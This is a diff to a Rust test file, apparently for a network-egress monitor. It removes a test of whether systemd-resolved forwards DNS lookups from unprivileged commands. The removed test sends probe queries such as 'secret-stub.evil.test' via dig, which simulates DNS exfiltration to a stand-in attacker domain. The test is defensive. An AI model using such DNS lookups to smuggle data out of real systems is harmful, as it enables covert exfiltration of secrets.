@@ -246,10 +246,6 @@ impl Names {
         }
         Ok(names)
     }
-
-    fn asked_outside(&self, name: &str) -> Result<bool> {
-        Ok(self.server.arrived()?.iter().any(|one| one.path == name))
-    }
 }
 
 #[test]
@@ -280,29 +276,4 @@ fn systemd_resolved_does_not_ask_for_a_managed_program() -> Result<()> {
         );
     }
     names.nothing_else_got_out()
-}
-
-#[test]
-fn systemd_resolved_asks_for_a_command_that_an_ordinary_user_starts() -> Result<()> {
-    require!(Root, CgroupV2, Btf, Runtimes);
-    let names = Names::with_resolved()?;
-    // Nothing can be mounted over its sockets there; SECURITY.md says so.
-    for (number, script) in RESOLVED.iter().enumerate() {
-        let name = format!("secret-{number}.evil.test");
-        let told = names.host.run(Way::ExecBy, &script.replace("NAME", &name))?;
-        assert!(names.asked_outside(&name)?, "{script}: {told:?}");
-        names.host.run(Way::ExecBy, &script.replace("NAME", API))?.ok()?;
-    }
-    // What it asks the network for is the agent's to answer.
-    let name = "secret-stub.evil.test";
-    let dig = format!("dig @127.0.0.53 +time=5 +tries=1 {name}");
-    let told = names.host.run(Way::ExecBy, &dig)?.ok()?;
-    assert!(told.contains("status: NXDOMAIN"), "{told}");
-    names.recorded(name, "udp")?;
-    assert!(!names.asked_outside(name)?);
-    // The agent saw nothing of the others.
-    let records = names.host.0.records()?;
-    let told = |one: &&Record| one.text("kind") == "dns" && one.text("authority") != format!("{name}.");
-    assert_eq!(records.iter().find(told), None);
-    Ok(())
 }
